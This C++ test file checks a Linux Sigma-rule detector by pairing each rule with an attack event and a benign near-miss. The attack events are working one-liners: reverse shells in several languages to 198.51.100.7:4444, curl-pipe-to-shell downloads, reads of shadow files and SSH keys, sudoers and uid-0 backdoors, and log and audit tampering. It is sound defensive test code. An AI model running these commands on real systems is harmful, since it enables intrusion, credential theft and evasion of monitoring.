// The project's default rule set (plugins/behavior/rules): every rule matches
// a realistic event and misses a near-miss, and every rule has such a case.
#include <map>
#include <set>

#include "sigma_test_util.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::LoadOptions;

namespace {

SigmaEvent P(std::string_view image, std::string_view cmdline, std::string_view parent = "/bin/bash") {
    return process(image, cmdline, parent);
}

SigmaEvent F(Category c, std::string_view image, std::string_view target) {
    return event(c, {{FieldId::Image, image}, {FieldId::TargetFilename, target}, {FieldId::User, "root"}});
}

SigmaEvent N(std::string_view image, std::string_view cmdline, std::string_view ip, std::string_view port,
             bool initiated = true) {
    return event(Category::NetworkConnection,
                 {{FieldId::Image, image},
                  {FieldId::CommandLine, cmdline},
                  {initiated ? FieldId::DestinationIp : FieldId::SourceIp, ip},
                  {initiated ? FieldId::DestinationPort : FieldId::SourcePort, port},
                  {FieldId::Initiated, initiated ? "true" : "false"},
                  {FieldId::Protocol, "tcp"}});
}

struct Case {
    std::string_view rule;  // file name in plugins/behavior/rules
    SigmaEvent hit;
    SigmaEvent miss;
};

const Category FE = Category::FileEvent;

std::vector<Case> cases() {
    std::vector<Case> c;
    auto add = [&](std::string_view rule, SigmaEvent hit, SigmaEvent miss) {
        c.push_back({rule, std::move(hit), std::move(miss)});
    };
    // reverse shells
    add("proc_lnx_reverse_shell_dev_tcp.yml", P("/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"),
        P("/bin/ls", "ls -l /dev/tty"));
    add("proc_lnx_reverse_shell_netcat_exec.yml", P("/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"),
        P("/usr/bin/nc", "nc -zv 198.51.100.7 22"));
    add("proc_lnx_reverse_shell_python.yml",
        P("/usr/bin/python3",
          "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
          "s.connect((\"198.51.100.7\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"),
        P("/usr/bin/python3", "python3 -c import socket; s=socket.socket(); s.connect((\"127.0.0.1\", 80)); s.send(b\"hi\")"));
    add("proc_lnx_reverse_shell_perl.yml",
        P("/usr/bin/perl",
          "perl -e use Socket;$i=\"198.51.100.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
          "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};"),
        P("/usr/bin/perl", "perl -MIO::Socket -e print IO::Socket::INET->new(\"example.org:80\") ? \"up\" : \"down\""));
    add("proc_lnx_reverse_shell_php.yml",
        P("/usr/bin/php8.2", "php -r $sock=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
        P("/usr/bin/php8.2", "php -r $f=fsockopen(\"example.org\",80); fwrite($f,\"GET / HTTP/1.0\\r\\n\\r\\n\");"));
    add("proc_lnx_reverse_shell_ruby.yml",
        P("/usr/bin/ruby3.1",
          "ruby -rsocket -e f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
        P("/usr/bin/ruby3.1", "ruby -e puts 1+1"));
    add("proc_lnx_reverse_shell_socat.yml", P("/usr/bin/socat", "socat tcp:198.51.100.7:4444 EXEC:/bin/bash,pty,stderr,setsid"),
        P("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80"));
    add("proc_lnx_reverse_shell_network_pipe.yml",
        P("/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"),
        P("/bin/sh", "sh -c mkfifo /tmp/pipe; nc -l 8080 > /tmp/pipe"));
    add("proc_lnx_netcat_listener.yml", P("/usr/bin/nc.openbsd", "nc -lvnp 4444"),
        P("/usr/bin/nc.openbsd", "nc -zv 198.51.100.7 22"));
    // download and execute
    add("proc_lnx_download_pipe_shell.yml", P("/bin/sh", "sh -c curl -fsSL http://198.51.100.7/install.sh | sh"),
        P("/bin/sh", "sh -c curl -fsSL http://example.org/data.json | jq ."));
    add("proc_lnx_chmod_exec_tmp.yml", P("/usr/bin/chmod", "chmod +x /tmp/.x/payload"),
        P("/usr/bin/chmod", "chmod +x /home/alice/bin/tool.sh"));
    add("proc_lnx_exec_from_tmp.yml", P("/dev/shm/kworker", "/dev/shm/kworker -s"),
        P("/home/alice/tmp/tool", "/home/alice/tmp/tool"));
    add("proc_lnx_download_to_tmp.yml", P("/usr/bin/wget", "wget -O /dev/shm/a http://198.51.100.7/a"),
        P("/usr/bin/curl", "curl -o /home/alice/file.tgz http://example.org/f.tgz"));
    // persistence
    add("proc_lnx_crontab_install.yml", P("/usr/bin/crontab", "crontab /tmp/.c"), P("/usr/bin/crontab", "crontab -l"));
    add("file_lnx_cron_written.yml", F(FE, "/bin/bash", "/etc/cron.d/updater"), F(FE, "/usr/bin/dpkg", "/etc/cron.d/updater"));
    add("file_lnx_systemd_unit_written.yml", F(FE, "/usr/bin/tee", "/etc/systemd/system/dbus-helper.service"),
        F(FE, "/usr/bin/dpkg", "/etc/systemd/system/dbus-helper.service"));
    add("file_lnx_shell_profile_modified.yml", F(FE, "/bin/bash", "/home/alice/.bashrc"),
        F(FE, "/usr/bin/vim.basic", "/home/alice/.bashrc"));
    add("file_lnx_init_script_written.yml", F(FE, "/usr/bin/cp", "/etc/update-motd.d/99-x"),
        F(FE, "/usr/bin/dpkg", "/etc/update-motd.d/99-x"));
    add("file_lnx_authorized_keys_written.yml", F(FE, "/bin/bash", "/root/.ssh/authorized_keys"),
        F(FE, "/usr/bin/ssh", "/root/.ssh/known_hosts"));
    add("proc_lnx_authorized_keys_append.yml",
        P("/bin/sh", "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx >> /root/.ssh/authorized_keys"),
        P("/usr/bin/ssh-keygen", "ssh-keygen -lf /root/.ssh/authorized_keys"));
    add("file_lnx_ld_so_preload_written.yml", F(FE, "/bin/bash", "/etc/ld.so.preload"),
        F(FE, "/bin/bash", "/etc/ld.so.conf.d/x.conf"));
    add("proc_lnx_ld_so_preload_reference.yml", P("/bin/sh", "sh -c echo /tmp/libx.so > /etc/ld.so.preload"),
        P("/usr/bin/ls", "ls -l /etc/ld.so.preload"));
    add("proc_lnx_ld_preload_tmp.yml", P("/bin/sh", "sh -c LD_PRELOAD=/dev/shm/libx.so /usr/bin/id"),
        P("/bin/sh", "sh -c LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server"));
    // history and logs
    add("proc_lnx_history_tampering.yml", P("/bin/bash", "bash -c history -c && unset HISTFILE"),
        P("/bin/bash", "bash -c history | tail -5"));
    add("proc_lnx_history_file_removed.yml", P("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
        P("/usr/bin/cat", "cat /root/.bash_history"));
    add("file_lnx_history_file_deleted.yml", F(Category::FileDelete, "/usr/bin/rm", "/root/.bash_history"),
        F(Category::FileDelete, "/usr/bin/rm", "/root/.bash_history.bak"));
    add("proc_lnx_log_wipe.yml", P("/usr/bin/truncate", "truncate -s 0 /var/log/auth.log"),
        P("/usr/bin/rm", "rm -f /var/log/syslog.2.gz", "/usr/sbin/logrotate"));
    add("file_lnx_log_deleted.yml", F(Category::FileDelete, "/usr/bin/rm", "/var/log/wtmp"),
        F(Category::FileDelete, "/usr/bin/rm", "/var/log/wtmp.1"));
    add("proc_lnx_journal_vacuum.yml", P("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
        P("/usr/bin/journalctl", "journalctl -u ssh --since today"));
    // credentials
    add("proc_lnx_shadow_read.yml", P("/usr/bin/cat", "cat /etc/shadow"), P("/usr/bin/ls", "ls -l /etc/shadow"));
    add("file_lnx_shadow_opened.yml", F(Category::FileAccess, "/usr/bin/python3.11", "/etc/shadow"),
        F(Category::FileAccess, "/usr/sbin/unix_chkpwd", "/etc/shadow"));
    add("proc_lnx_ssh_private_key_access.yml", P("/usr/bin/cat", "cat /home/alice/.ssh/id_rsa"),
        P("/usr/bin/cat", "cat /home/alice/.ssh/id_rsa.pub"));
    add("proc_lnx_private_key_search.yml", P("/usr/bin/find", "find / -name id_rsa"),
        P("/usr/bin/find", "find /home -name *.txt"));
    // encoded payloads
    add("proc_lnx_base64_pipe_shell.yml", P("/bin/sh", "sh -c echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | bash"),
        P("/bin/sh", "sh -c echo aGVsbG8= | base64 -d > /tmp/out.txt"));
    add("proc_lnx_interpreter_decode_exec.yml",
        P("/usr/bin/python3", "python3 -c import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"),
        P("/usr/bin/python3", "python3 -c import base64;print(base64.b64decode('aGk='))"));
    // privilege escalation
    add("proc_lnx_suid_set.yml", P("/usr/bin/chmod", "chmod 4755 /tmp/rootbash"),
        P("/usr/bin/chmod", "chmod 1777 /srv/shared"));
    add("proc_lnx_suid_discovery.yml", P("/usr/bin/find", "find / -perm -4000 -type f"),
        P("/usr/bin/find", "find / -perm -o+w -type d"));
    add("proc_lnx_kernel_module_load.yml", P("/usr/sbin/insmod", "insmod /tmp/rk.ko"),
        P("/usr/sbin/modprobe", "modprobe br_netfilter"));
    add("proc_lnx_user_created.yml", P("/usr/sbin/useradd", "useradd -m backdoor"),
        P("/usr/sbin/userdel", "userdel backdoor"));
    add("proc_lnx_uid0_account.yml", P("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M svc"),
        P("/usr/sbin/useradd", "useradd -u 1000 bob"));
    add("proc_lnx_user_added_admin_group.yml", P("/usr/sbin/usermod", "usermod -aG sudo bob"),
        P("/usr/sbin/usermod", "usermod -aG audio bob"));
    add("file_lnx_sudoers_modified.yml", F(FE, "/usr/bin/tee", "/etc/sudoers.d/99-nopasswd"),
        F(FE, "/usr/sbin/visudo", "/etc/sudoers"));
    add("proc_lnx_sudoers_nopasswd.yml", P("/bin/sh", "sh -c echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
        P("/usr/bin/grep", "grep -r NOPASSWD /etc/sudoers /etc/sudoers.d"));
    add("file_lnx_account_db_written.yml", F(FE, "/usr/bin/python3.11", "/etc/passwd"),
        F(FE, "/usr/sbin/useradd", "/etc/passwd"));
    add("proc_lnx_nsenter_host.yml", P("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- bash"),
        P("/usr/bin/nsenter", "nsenter -t 4242 -n ip a"));
    // execution and evasion
    add("proc_lnx_webserver_spawns_shell.yml", P("/bin/sh", "sh -c id", "/usr/sbin/apache2"),
        P("/usr/lib/cgi-bin/app.cgi", "app.cgi", "/usr/sbin/apache2"));
    add("proc_lnx_hidden_executable.yml", P("/tmp/.x/.sshd", ".sshd"),
        P("/home/alice/.local/bin/tool", "tool"));
    add("proc_lnx_memfd_exec.yml", P("/memfd:payload (deleted)", "payload"), P("/usr/bin/memfd-test", "memfd-test"));
    add("proc_lnx_deleted_binary_exec.yml", P("/var/tmp/upd (deleted)", "upd"), P("/var/tmp/upd", "upd"));
    add("proc_lnx_cryptominer.yml", P("/opt/x/xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
        P("/opt/x/server", "server --port 3333"));
    add("proc_lnx_shell_upgrade_pty.yml", P("/usr/bin/python3", "python3 -c import pty; pty.spawn(\"/bin/bash\")"),
        P("/usr/bin/script", "script -a session.log"));
    add("proc_lnx_firewall_disabled.yml", P("/usr/sbin/nft", "nft flush ruleset"), P("/usr/sbin/nft", "nft list ruleset"));
    add("proc_lnx_security_service_disabled.yml", P("/usr/bin/systemctl", "systemctl stop auditd"),
        P("/usr/bin/systemctl", "systemctl status auditd"));
    // network
    add("net_lnx_shell_outbound.yml", N("/bin/bash", "bash", "198.51.100.7", "4444"),
        N("/usr/bin/curl", "curl http://198.51.100.7:4444/", "198.51.100.7", "4444"));
    add("net_lnx_interpreter_oneliner_outbound.yml", N("/usr/bin/python3", "python3 -c import socket", "198.51.100.7", "4444"),
        N("/usr/bin/python3", "python3 /opt/app/server.py", "198.51.100.7", "4444"));
    add("net_lnx_tmp_binary_outbound.yml", N("/dev/shm/x", "x", "198.51.100.7", "443"),
        N("/usr/bin/x", "x", "198.51.100.7", "443"));
    add("net_lnx_netcat_outbound.yml", N("/usr/bin/ncat", "ncat 198.51.100.7 443", "198.51.100.7", "443"),
        N("/usr/bin/ncat", "ncat -l 443", "198.51.100.7", "50000", false));
    add("net_lnx_bind_shell_inbound.yml", N("/usr/bin/nc", "nc -lvp 4444", "198.51.100.7", "50000", false),
        N("/usr/sbin/sshd", "sshd", "198.51.100.7", "50000", false));
    return c;
}

// Extra variants that each rule's alternatives must also catch (or not).
std::vector<Case> variants() {
    std::vector<Case> c;
    auto add = [&](std::string_view rule, SigmaEvent hit, SigmaEvent miss) {
        c.push_back({rule, std::move(hit), std::move(miss)});
    };
    add("proc_lnx_reverse_shell_network_pipe.yml",
        P("/bin/sh", "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:4444 > /tmp/s"),
        P("/bin/sh", "sh -c echo hi | nc 127.0.0.1 80"));
    add("proc_lnx_download_pipe_shell.yml", P("/bin/sh", "sh -c wget -qO- http://x/a | sudo -E bash"),
        P("/bin/sh", "sh -c wget -qO- http://x/a | sha256sum"));
    add("proc_lnx_suid_set.yml", P("/usr/bin/chmod", "chmod u+s /tmp/rootbash"),
        P("/usr/bin/chmod", "chmod 0755 /usr/local/bin/tool"));
    add("proc_lnx_suid_set.yml", P("/usr/bin/chmod", "chmod a+rx,u+s /tmp/rootbash"),
        P("/usr/bin/chmod", "chmod -R g+w /srv/share"));
    add("proc_lnx_uid0_account.yml", P("/bin/sh", "sh -c echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"),
        P("/usr/sbin/useradd", "useradd -u 0100 bob"));
    add("proc_lnx_crontab_install.yml", P("/usr/bin/crontab", "crontab -"), P("/usr/bin/crontab", "crontab -u root -e"));
    add("proc_lnx_firewall_disabled.yml", P("/usr/sbin/iptables", "iptables -F"),
        P("/usr/sbin/iptables", "iptables -L -n"));
    add("proc_lnx_firewall_disabled.yml", P("/usr/bin/systemctl", "systemctl disable --now firewalld"),
        P("/usr/bin/systemctl", "systemctl restart firewalld"));
    add("proc_lnx_security_service_disabled.yml", P("/usr/sbin/setenforce", "setenforce 0"),
        P("/usr/sbin/setenforce", "setenforce 1"));
    add("proc_lnx_security_service_disabled.yml", P("/usr/sbin/auditctl", "auditctl -D"),
        P("/usr/sbin/auditctl", "auditctl -l"));
    add("proc_lnx_security_service_disabled.yml", P("/usr/sbin/service", "service auditd stop"),
        P("/usr/sbin/service", "service auditd status"));
    add("proc_lnx_shell_upgrade_pty.yml", P("/usr/bin/script", "script -qc /bin/bash /dev/null"),
        P("/usr/bin/python3", "python3 -c import pty; print(pty.STDIN_FILENO)"));
    add("proc_lnx_private_key_search.yml", P("/usr/bin/grep", "grep -rl BEGIN OPENSSH PRIVATE KEY /home"),
        P("/usr/bin/grep", "grep -r TODO /home/alice/src"));
    add("proc_lnx_kernel_module_load.yml", P("/usr/sbin/modprobe", "modprobe -a /tmp/x.ko"),
        P("/usr/sbin/lsmod", "lsmod"));
    add("proc_lnx_reverse_shell_netcat_exec.yml", P("/usr/bin/ncat", "ncat --sh-exec /bin/sh 198.51.100.7 4444"),
        P("/usr/bin/ncat", "ncat --ssl 198.51.100.7 443"));
    add("proc_lnx_history_tampering.yml", P("/bin/bash", "bash -c export HISTFILE=/dev/null"),
        P("/bin/bash", "bash -c echo $HISTFILE"));
    add("file_lnx_cron_written.yml", F(Category::FileRename, "/usr/bin/crontab", "/var/spool/cron/crontabs/alice"),
        F(FE, "/bin/bash", "/etc/cron.deny"));
    add("file_lnx_systemd_unit_written.yml", F(FE, "/bin/bash", "/home/alice/.config/systemd/user/agent.timer"),
        F(FE, "/bin/bash", "/etc/systemd/system/foo.conf"));
    add("file_lnx_shell_profile_modified.yml", F(FE, "/usr/bin/python3", "/etc/profile.d/zz.sh"),
        F(FE, "/usr/bin/python3", "/etc/profile.d.bak"));
    return c;
}

std::map<std::string, std::string> id_by_file(const Detector& d) {
    std::map<std::string, std::string> out;
    for (const auto& r : d.rules()) out[r->source.substr(std::string("builtin:").size())] = r->id;
    return out;
}

bool fires(const Detector& d, const SigmaEvent& e, const std::string& id) {
    for (const auto& m : d.evaluate(e))
        if (m.rule->id == id) return true;
    return false;
}

}  // namespace

TEST_CASE("behavior_sigma_default_rules: each rule matches its attack and misses its near-miss") {
    Detector d;
    auto stats = d.load(LoadOptions{{}, true});
    REQUIRE(stats.skipped == 0);
    auto ids = id_by_file(d);
    std::vector<Case> all = cases();
    for (auto& v : variants()) all.push_back(std::move(v));
    for (const auto& c : all) {
        auto it = ids.find(std::string(c.rule));
        INFO("rule " << c.rule);
        REQUIRE(it != ids.end());
        CHECK(fires(d, c.hit, it->second));
        CHECK_FALSE(fires(d, c.miss, it->second));
    }
}

TEST_CASE("behavior_sigma_default_rules: every default rule has a test case") {
    Detector d;
    d.load(LoadOptions{{}, true});
    std::set<std::string> tested;
    for (const auto& c : cases()) tested.insert(std::string(c.rule));
    for (const auto& [file, id] : id_by_file(d)) {
        INFO("rule file " << file);
        CHECK(tested.count(file) == 1);
    }
}

TEST_CASE("behavior_sigma_default_rules: metadata follows the project's conventions") {
    Detector d;
    d.load(LoadOptions{{}, true});
    std::set<std::string> ids;
    for (const auto& r : d.rules()) {
        INFO("rule " << r->source);
        CHECK(r->author == "Vigil");
        CHECK(r->id.size() == 36);
        CHECK(ids.insert(r->id).second);
        CHECK(r->product == "linux");
        CHECK_FALSE(r->title.empty());
        CHECK_FALSE(r->description.empty());
        CHECK(r->unmapped_fields.empty());
        bool attack_technique = false;
        for (const auto& t : r->tags) attack_technique |= t.starts_with("attack.t");
        CHECK(attack_technique);
    }
}

TEST_CASE("behavior_sigma_default_rules: the directory holds the same rules as the built-in set") {
    Detector from_dir;
    auto stats = from_dir.load(LoadOptions{{VIGIL_BEHAVIOR_RULES_DIR}, false});
    CHECK(stats.skipped == 0);
    CHECK(stats.loaded == vigil::behavior::sigma::builtin_rules().size());
}
